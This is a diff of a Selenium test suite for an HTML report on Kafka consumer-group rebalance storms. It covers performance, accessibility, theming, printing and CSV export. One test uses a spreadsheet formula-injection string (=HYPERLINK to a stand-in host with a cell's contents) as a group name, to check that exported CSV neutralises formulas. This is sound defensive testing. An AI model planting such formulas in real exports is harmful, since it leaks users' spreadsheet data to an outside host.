@@ -2,16 +2,21 @@
 
 from __future__ import annotations
 
+import csv
 import os
 import shutil
+from importlib import resources
 from itertools import pairwise
 from typing import TYPE_CHECKING, Any
 
+import pyarrow as pa
+import pyarrow.compute as pc
 import pytest
 from selenium import webdriver
 from selenium.webdriver.chrome.service import Service
 from selenium.webdriver.common.action_chains import ActionChains
 from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
 from selenium.webdriver.support.ui import Select, WebDriverWait
 
 from reporting.model import Facts
@@ -27,6 +32,10 @@ if TYPE_CHECKING:
 
 _PATIENCE = 60
 _STORM = "#group-0"  # the worst group of the recording is the storm
+_AS_TABLE = "figcaption button[aria-expanded]"
+_SAVE = "figcaption button:last-child"
+_ALL = "SELECT * FROM gold.anomalies"
+_NAMES = "#groups tbody td:first-child"
 
 
 class Page:
@@ -37,11 +46,12 @@ class Page:
         driver.get(path.as_uri())
         self.wait("return document.documentElement.dataset.ready === 'true'")
 
-    def run(self, script: str) -> Any:  # noqa: ANN401 - whatever it returns
-        return self.driver.execute_script(script)
+    def run(self, script: str, *arguments: WebElement) -> Any:  # noqa: ANN401 - whatever it returns
+        return self.driver.execute_script(script, *arguments)
 
     def wait(self, script: str) -> None:
-        WebDriverWait(self.driver, _PATIENCE).until(lambda _: self.run(script))
+        waiting = WebDriverWait(self.driver, _PATIENCE, poll_frequency=0.05)
+        waiting.until(lambda _: self.run(script))
 
     def one(self, selector: str) -> WebElement:
         return self.driver.find_element(By.CSS_SELECTOR, selector)
@@ -53,8 +63,16 @@ class Page:
     def texts(self, selector: str) -> list[str]:
         return [element.text for element in self.driver.find_elements(By.CSS_SELECTOR, selector)]
 
+    def is_shown(self, selector: str) -> bool:
+        return self.one(selector).is_displayed()
+
     def wait_for_charts(self, group: str, count: int) -> None:
         self.wait(f"return document.querySelectorAll('{group} canvas').length >= {count}")
+
+    def go_dark(self, charts: int) -> None:
+        Select(self.one("#theme")).select_by_value("dark")
+        dark = f"{_STORM} [data-dark] canvas"
+        self.wait(f"return document.querySelectorAll('{dark}').length >= {charts}")
 
     @property
     def complaints(self) -> list[str]:
@@ -111,7 +129,7 @@ def test_the_storm_its_cause_and_its_members_are_on_the_page(storm: Page) -> Non
     assert storm.complaints == []
     assert "orders-storm" in storm.text("#headline")
     assert "133 rebalances" in storm.text(f"{_STORM} summary")
-    found = storm.texts(f"{_STORM} .found > li")
+    found = storm.texts(f"{_STORM} .found > ul > li")
     assert found[0].startswith(
         "critical rebalance storm (short lived members): orders-storm rebalanced 134 times"
     )
@@ -122,7 +140,7 @@ def test_the_storm_its_cause_and_its_members_are_on_the_page(storm: Page) -> Non
     assert list(shown) == ["anomalies", "states", "generations", "members", "owners", "offsets"]
     assert "most often: new member" in shown["generations"]
     assert "6 clients, 210 sessions, all on 127.0.0.1; came back most: flapper-" in shown["members"]
-    names = storm.texts("#groups tbody td:first-child")
+    names = storm.texts(_NAMES)
     assert names[0] == "orders-storm"
     assert sorted(names)[1:3] == ["healthy-ctl", "orders-storm"]
 
@@ -131,11 +149,13 @@ def test_every_chart_is_described_in_words_and_every_table_has_a_caption(storm: 
     labels = storm.run("return [...document.querySelectorAll('.plot')].map(p => p.ariaLabel)")
     assert len(labels) == 7
     assert all(len(label) > 40 for label in labels)
-    for button in storm.driver.find_elements(By.CSS_SELECTOR, f"{_STORM} .as-table"):
+    for button in storm.driver.find_elements(By.CSS_SELECTOR, f"{_STORM} {_AS_TABLE}"):
         button.click()
     assert storm.run("return [...document.querySelectorAll('table')].every(t => t.caption)")
-    rows = storm.driver.find_elements(By.CSS_SELECTOR, "[data-chart=generations] tbody tr")
-    assert len(rows) == 100  # and more behind a button
+    rows = "return document.querySelectorAll('#group-0 [data-chart=generations] tbody tr').length"
+    assert storm.run(rows) == 100
+    storm.one(f"{_STORM} [data-chart=generations] .scroll").send_keys(Keys.END)
+    storm.wait(f"{rows} === 133")
     levels = storm.run(
         "return [...document.querySelectorAll('h1,h2,h3,h4')].map(h => Number(h.tagName[1]))"
     )
@@ -147,21 +167,21 @@ def test_every_chart_is_described_in_words_and_every_table_has_a_caption(storm: 
 def test_the_search_filters_the_table_and_a_heading_sorts_it(storm: Page) -> None:
     search = storm.one("#search")
     search.send_keys("PAYMENTS")
-    assert sorted(storm.texts("#groups tbody td:first-child")) == [
+    assert sorted(storm.texts(_NAMES)) == [
         "payments-jslow",
         "payments-slow",
     ]
     assert storm.text("#groups caption").startswith("2 of 5 groups")
     search.clear()
     search.send_keys("no such group")
-    assert storm.texts("#groups tbody td:first-child") == []
+    assert storm.texts(_NAMES) == []
     search.clear()
     search.send_keys("-")
     Select(storm.one("#health")).select_by_visible_text("ok")
-    assert storm.texts("#groups tbody td:first-child") == ["healthy-ctl"]
+    assert storm.texts(_NAMES) == ["healthy-ctl"]
     Select(storm.one("#health")).select_by_visible_text("any")
     storm.one("#groups th:first-child button").click()
-    names = storm.texts("#groups tbody td:first-child")
+    names = storm.texts(_NAMES)
     assert names == sorted(names)
     assert storm.one("#groups th:first-child").get_attribute("aria-sort") == "ascending"
 
@@ -246,7 +266,7 @@ def test_names_that_attack_the_page_are_shown_and_do_nothing(
     for group in opened.driver.find_elements(By.CSS_SELECTOR, "details.group"):
         opened.driver.execute_script("arguments[0].open = true", group)
     opened.wait_for_charts("#details", 7 * len(ATTACKS))
-    for button in opened.driver.find_elements(By.CSS_SELECTOR, ".as-table"):
+    for button in opened.driver.find_elements(By.CSS_SELECTOR, _AS_TABLE):
         opened.driver.execute_script("arguments[0].click()", button)
     lanes = opened.one("#group-0 [data-chart=members] .plot")
     ActionChains(opened.driver).move_to_element_with_offset(lanes, -300, 0).perform()
@@ -272,21 +292,256 @@ def test_code_that_is_not_the_pages_own_does_not_run(
     assert any("Content Security Policy" in message for message in opened.complaints)
 
 
-@pytest.mark.parametrize("count", [0, 1, 2_000])
-def test_it_is_quick_with_few_and_with_many_groups(
+@pytest.mark.parametrize("count", [0, 1])
+def test_a_page_of_few_groups(
     browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path, count: int
 ) -> None:
-    path = tmp_path / "report.html"
-    shown_facts = facts([f"team.service-{n}" for n in range(count)]) if count else _nothing()
-    path.write_text(page(shown_facts, parts), encoding="utf-8")
-    opened = Page(browser, path)
-    if not count:
-        assert "no groups here yet" in opened.text("#headline")
-    else:
-        assert f"{count:,} of {count:,} group" in opened.text("#groups caption")
+    opened = _open(browser, parts, tmp_path, facts(["orders"]) if count else _nothing())
+    if count:
+        assert "1 of 1 group;" in opened.text("#groups caption")
         opened.wait_for_charts(_STORM, 7)
-    assert len(opened.texts("details.group")) == min(count, 25)
+    else:
+        assert "no groups here yet" in opened.text("#headline")
+    assert len(opened.texts("details.group")) == count
     assert opened.complaints == []
+
+
+def test_five_thousand_groups_are_small_and_quick(
+    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
+) -> None:
+    path = tmp_path / "report.html"
+    names = [f"team-{n % 40}.service-{n}.consumer" for n in range(5_000)]
+    path.write_text(page(facts(names), parts), encoding="utf-8")
+    assert path.stat().st_size < 10_000_000
+    # Time of the processor: what else the machine does is no matter.
+    browser.execute_cdp_cmd("Performance.enable", {"timeDomain": "threadTicks"})
+    opened = Page(browser, path)
+    search = opened.one("#search")
+    search.send_keys("SERVICE-4999")
+    assert opened.texts(_NAMES) == ["team-39.service-4999.consumer"]
+    opened.wait_for_charts(_STORM, 7)
+    metrics = browser.execute_cdp_cmd("Performance.getMetrics", {})["metrics"]
+    browser.execute_cdp_cmd("Performance.disable", {})
+    (seconds,) = (metric["value"] for metric in metrics if metric["name"] == "TaskDuration")
+    assert 0.1 < seconds < 3
+    assert opened.text("#groups caption").startswith("1 of 5,000 groups")
+    search.send_keys(Keys.CONTROL, "a", Keys.NULL, Keys.DELETE)
+    # Rows are made as they come into sight; the table says how many there are.
+    rows = "return document.querySelectorAll('#groups tbody tr').length"
+    assert opened.run(rows) == 100
+    assert opened.one("#groups table").get_attribute("aria-rowcount") == "5001"
+    box = opened.one("#groups .scroll")
+    for held in (200, 300):
+        box.send_keys(Keys.END)
+        opened.wait(f"{rows} >= {held}")
+    opened.one("#groups th:first-child button").click()
+    assert opened.run(rows) == 100
+    assert opened.run("return document.querySelector('#groups .scroll').scrollTop") == 0
+    assert opened.texts(_NAMES)[:2] == ["team-0.service-0.consumer", "team-0.service-40.consumer"]
+    assert len(opened.texts("details.group")) == 25
+    assert opened.complaints == []
+
+
+def test_what_is_left_out_of_the_anomalies_is_said(
+    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
+) -> None:
+    shown = facts([f"group-{n}" for n in range(1_340)], 3)
+    shown.shown[0].counts["anomalies"] = 7
+    shown.anomalies = shown.anomalies.filter(pc.not_equal(shown.anomalies["group_id"], "group-1"))
+    opened = _open(browser, parts, tmp_path, shown)
+    cut = "The worst 499 of 1,340 anomalies that may go on, or ended in the last 7 days"
+    assert opened.text("#anomalies .remark") == f"{cut}; all of them by SQL: {_ALL}"
+    assert opened.text(f"{_STORM} .found .remark") == f"The worst 1 of 7 are shown; {_ALL} has all."
+    opened.one("#group-1 summary").click()
+    opened.wait_for_charts("#group-1", 6)
+    assert opened.text("#group-1 .found") == f"The worst 0 of 1 are shown; {_ALL} has all."
+    opened.one("#group-2 summary").click()
+    opened.wait_for_charts("#group-2", 7)
+    assert opened.text("#group-2 .found .remark") == ""
+
+
+def test_forty_owners_look_different_and_the_others_are_counted(
+    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
+) -> None:
+    opened = _open(browser, parts, tmp_path, facts(["orders"]))  # 60 clients
+    opened.wait_for_charts(_STORM, 7)
+    owners = opened.texts(f"{_STORM} [data-chart=owners] .legend li")
+    assert owners == [*(f"orders-{n}" for n in range(40)), "20 other owners"]
+    looks = opened.run(
+        "return [...document.querySelectorAll('#group-0 [data-chart=owners] .legend i')]"
+        ".map(swatch => getComputedStyle(swatch).backgroundImage)"
+    )
+    assert len(set(looks)) == len(looks) == 41
+
+
+def test_names_of_states_are_on_one_line(
+    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
+) -> None:
+    shown = facts(["orders"], 30)
+    states = pa.array(["CompletingRebalance"])
+    at = shown.groups.schema.get_field_index("state")
+    shown.groups = shown.groups.set_column(at, "state", states)
+    opened = _open(browser, parts, tmp_path, shown)
+    opened.wait_for_charts(_STORM, 7)
+    opened.run("document.querySelector('[data-chart=states] [aria-expanded]').click()")
+    size = browser.get_window_size()
+    browser.set_window_size(500, 900)
+    lines = opened.run(
+        "const found = [...document.querySelectorAll("
+        "'#groups td:nth-child(4), [data-chart=states] td:first-child, .legend li')];"
+        "return found.filter(f => /^[A-Z][a-z]+([A-Z][a-z]+)?$/.test(f.textContent)).map(found => {"
+        "  const text = document.createRange(); text.selectNodeContents(found.lastChild);"
+        "  return [found.textContent, text.getClientRects().length]; })"
+    )
+    browser.set_window_size(size["width"], size["height"])
+    assert len(lines) == 1 + 30 + 3
+    assert {count for _, count in lines} == {1}
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_axe_finds_nothing_serious(
+    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path, theme: str
+) -> None:
+    shown = facts([f"group-{n}" for n in range(31)], 5)  # healthy ones and others
+    shown.anomaly_count += 1  # so that the cut is there, too
+    opened = _open(browser, parts, tmp_path, shown)
+    opened.wait_for_charts(_STORM, 7)
+    if theme == "dark":
+        opened.go_dark(7)
+    opened.run(resources.files("axe_core_python").joinpath("axe.min.js").read_text("utf-8"))
+    assert _serious(opened) == []
+    for button in opened.driver.find_elements(By.CSS_SELECTOR, _AS_TABLE):
+        opened.run("arguments[0].click()", button)
+    opened.run("document.querySelectorAll('.found details').forEach(d => d.open = true)")
+    assert _serious(opened) == []
+    opened.run("document.querySelectorAll('details.group').forEach(d => d.open = false)")
+    assert _serious(opened) == []
+    # It does look: what nobody can read is found.
+    opened.run("document.querySelector('#headline').style.color = 'gray'")
+    opened.run("document.querySelector('#headline').style.backgroundColor = '#888'")
+    assert [finding.partition(":")[0] for finding in _serious(opened)] == ["color-contrast"]
+
+
+def _serious(opened: Page) -> list[str]:
+    """Ask axe-core for what keeps people from using the page."""
+    found = opened.driver.execute_async_script(
+        "const done = arguments[arguments.length - 1]; axe.run(document).then(done)"
+    )
+    assert len(found["passes"]) > 20
+    return [
+        f"{violation['id']}: {violation['nodes'][0]['html']}"
+        for violation in found["violations"]
+        if violation["impact"] in {"serious", "critical"}
+    ]
+
+
+def test_keys_sort_a_table(browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path) -> None:
+    opened = _open(browser, parts, tmp_path, facts([f"group-{n}" for n in range(12)], 2))
+    names = [f"group-{n}" for n in range(12)]
+    opened.one("#health").send_keys(Keys.TAB, Keys.TAB)  # to the table, behind "CSV"
+    assert opened.run("return document.activeElement.className") == "scroll"
+    opened.driver.switch_to.active_element.send_keys(Keys.TAB)
+    heading = opened.driver.switch_to.active_element
+    assert heading.text == "group"
+    heading.send_keys(Keys.ENTER)
+    assert opened.texts(_NAMES) == names
+    heading.send_keys(Keys.SPACE)
+    assert opened.texts(_NAMES) == names[::-1]
+    sorts = opened.run("return [...document.querySelectorAll('#groups th')].map(t => t.ariaSort)")
+    assert sorts == ["descending", *[None] * (len(sorts) - 1)]
+    assert opened.run("return document.activeElement.closest('th').ariaSort") == "descending"
+
+
+def test_paper_is_white_and_has_no_controls(
+    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
+) -> None:
+    opened = _open(browser, parts, tmp_path, facts([f"group-{n}" for n in range(120)], 30))
+    opened.wait_for_charts(_STORM, 7)
+    opened.go_dark(7)
+    controls = ("nav", "#settings", "#search", ".zoom button", _AS_TABLE, _SAVE)
+    assert all(opened.is_shown(selector) for selector in controls)
+    assert not opened.is_shown("#groups .cut")
+    size = browser.get_window_size()
+    browser.set_window_size(760, 1000)  # an A4 page
+    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
+    assert not any(opened.is_shown(selector) for selector in controls)
+    assert opened.text("#groups .cut") == "The first 100 of 120 rows."
+    assert opened.is_shown("#groups .cut")
+    assert _brightness(opened.run("return getComputedStyle(document.body).color")) < 60
+    styles = opened.run(
+        "const of = (s) => getComputedStyle(document.querySelector(s));"
+        "return [of('#groups .scroll').overflow, of('#group-0 canvas').filter,"
+        " of('#group-0 .legend i').filter]"
+    )
+    assert styles == ["visible", *["invert(1) hue-rotate(180deg)"] * 2]
+    assert opened.run("return document.documentElement.scrollWidth") <= 760
+    widths = opened.run(
+        "return [...document.querySelectorAll('canvas')]"
+        ".map(c => [c.getBoundingClientRect().width, c.closest('.plot').clientWidth])"
+    )
+    assert len(widths) == 8
+    assert all(canvas <= plot for canvas, plot in widths)
+    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})
+    browser.set_window_size(size["width"], size["height"])
+
+
+_FORMULA = '=HYPERLINK("http://x/?" & A1);=1+1,"@SUM(A1)"'
+
+
+def test_each_chart_has_its_data_as_csv_that_no_spreadsheet_takes_for_formulas(
+    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
+) -> None:
+    opened = _open(browser, parts, tmp_path, facts([_FORMULA, "two\r\nlines", "-3"], 30))
+    opened.wait_for_charts(_STORM, 7)
+    folder = tmp_path / "saved"
+    folder.mkdir()
+    allowed = {"behavior": "allow", "downloadPath": str(folder)}
+    browser.execute_cdp_cmd("Browser.setDownloadBehavior", allowed)
+    saves = [
+        *opened.driver.find_elements(By.CSS_SELECTOR, f"#rebalances {_SAVE}, {_STORM} {_SAVE}"),
+        opened.one("#anomalies .filters button"),
+        opened.one("#groups .filters button"),
+    ]
+    tables = {}
+    for count, save in enumerate(saves, 1):
+        opened.run("arguments[0].click()", save)
+        WebDriverWait(browser, _PATIENCE).until(lambda _, n=count: len(_saved(folder)) == n)
+    for path in _saved(folder):
+        raw = path.read_bytes()
+        assert raw.endswith(b"\r\n")
+        assert b"\n" not in raw.replace(b"\r\n", b"")
+        tables[path.stem] = list(csv.reader(raw.decode().splitlines(keepends=True), strict=True))
+    charts = ["anomalies", "states", "generations", "members", "owners", "offsets", "lag"]
+    of_group = "-HYPERLINK-http-x-A1-1-1-SUM-A1"
+    names = {f"{of_group}-{chart}" for chart in charts}
+    assert set(tables) == {"all-groups-rebalances", *names, "anomalies", "groups"}
+    for name, (heading, *rows) in tables.items():
+        assert all(len(row) == len(heading) for row in rows), name
+        # Nor where a semicolon separates cells.
+        cells = [part for row in rows for cell in row for part in (cell, *cell.split(";"))]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    heading, first, *others = tables["groups"]
+    assert heading[:5] == ["group", "health", "worst anomaly", "state", "since (UTC)"]
+    kept = _FORMULA.replace("=HYPER", "'=HYPER").replace(";=", ";'=")
+    assert first[:2] == [kept, "critical"]
+    assert [row[0] for row in others] == ["two\\u{d}\\u{a}lines", "'-3"]
+    assert first[4] == "2026-11-21 06:43:20.000"
+    assert len(tables["all-groups-rebalances"]) == 1 + 3 * 24
+    heading, first, *others = tables[f"{of_group}-generations"]
+    assert heading[:4] == ["generation", "began (UTC)", "took (ms)", "cause"]
+    assert first[:4] == ["0", "2026-11-21 05:20:00.000", "800", "new_member"]
+    assert len(others) == 29
+    assert opened.complaints == []
+
+
+def _saved(folder: Path) -> list[Path]:
+    return list(folder.glob("*.csv"))
+
+
+def _open(browser: webdriver.Chrome, parts: Ingredients, folder: Path, shown: Facts) -> Page:
+    path = folder / "report.html"
+    path.write_text(page(shown, parts), encoding="utf-8")
+    return Page(browser, path)
 
 
 def _nothing() -> Facts:
